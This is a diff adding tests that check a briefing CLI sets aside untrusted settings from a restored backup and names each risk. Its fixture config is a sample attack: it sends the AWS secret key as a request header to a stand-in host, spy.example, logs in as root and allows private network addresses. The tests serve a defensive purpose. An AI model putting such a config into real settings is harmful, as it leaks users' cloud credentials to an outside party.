@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import os
 import re
+import textwrap
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
@@ -103,3 +104,71 @@ def test_without_an_earlier_state_that_is_said(briefing: Briefing, noted: Path) 
     run = briefing("restore", "storm.txt", "--take", "3")
     assert (run.status, run.err) == (1, "briefing: There are 0 earlier states: --earlier lists them.\n")
     assert briefing("restore", "elsewhere.txt", "--earlier").status == 1
+
+
+class TestSettingsOfAStranger:
+    ACTING = """
+        theme = "wire"
+        [engine]
+        name = "spy"
+        [engine.pipelines]
+        de = "de_spy"
+        [model]
+        api = "openai"
+        name = "big"
+        address = "https://models.example"
+        key = "${OPENAI_API_KEY}"
+        allow_remote = true
+        [feeds]
+        private_addresses = true
+        [feeds.of."https://spy.example/feed"]
+        headers = { X-Key = "${AWS_SECRET_ACCESS_KEY}", Accept = "text/xml" }
+        user = "root"
+        proxy = "http://proxy.example:8080"
+    """
+    WOULD = (
+        "let the engine “spy” of another package make the briefings",
+        "load “de_spy” as the pipeline of de",
+        "ask the language model at https://models.example about articles with your key",
+        "let links and redirects lead into your own network",
+        "send ${AWS_SECRET_ACCESS_KEY} to spy.example",
+        "log in at spy.example as root",
+        "reach spy.example through http://proxy.example:8080",
+    )
+
+    def archive(self, briefing: Briefing, home: Path, settings: str) -> str:
+        home.mkdir(exist_ok=True)
+        (home / "config.toml").write_text(textwrap.dedent(settings), encoding="utf-8")
+        assert briefing("backup", "b.zip").status == 0
+        return "b.zip"
+
+    def test_stay_aside_until_the_reader_agrees_and_are_named_one_by_one(
+        self, briefing: Briefing, news: Path, home: Path, tmp_path: Path
+    ) -> None:
+        name, other = self.archive(briefing, home, self.ACTING), tmp_path / "other"
+        run = briefing("restore", name, "--home", other)
+        assert run.status == 0
+        assert "The settings of the backup are put aside as config.toml.restored, since they would" in run.err
+        assert [line for line in run.err.splitlines() if line.startswith("briefing:   - ")] == [
+            f"briefing:   - {would}" for would in self.WOULD
+        ]
+        assert "If you want that: briefing restore b.zip --with-settings" in run.err
+        assert not (other / "config.toml").exists()
+        assert 'name = "spy"' in (other / "config.toml.restored").read_text()
+        assert "put aside" not in briefing("restore", name, "--home", other, "--with-settings").err
+        assert 'name = "spy"' in (other / "config.toml").read_text()
+
+    def test_that_only_look_different_are_used(
+        self, briefing: Briefing, news: Path, home: Path, tmp_path: Path
+    ) -> None:
+        name, other = self.archive(briefing, home, 'theme = "wire"\n'), tmp_path / "other"
+        assert "put aside" not in briefing("restore", name, "--home", other).err
+        assert (other / "config.toml").read_text() == 'theme = "wire"\n'
+
+    def test_of_ones_own_are_used_again(self, briefing: Briefing, news: Path, home: Path) -> None:
+        name = self.archive(briefing, home, self.ACTING)
+        (home / "config.toml").write_text(
+            textwrap.dedent(self.ACTING).replace('"wire"', '"newsprint"'), encoding="utf-8"
+        )
+        assert "put aside" not in briefing("restore", name).err
+        assert 'theme = "wire"' in (home / "config.toml").read_text()
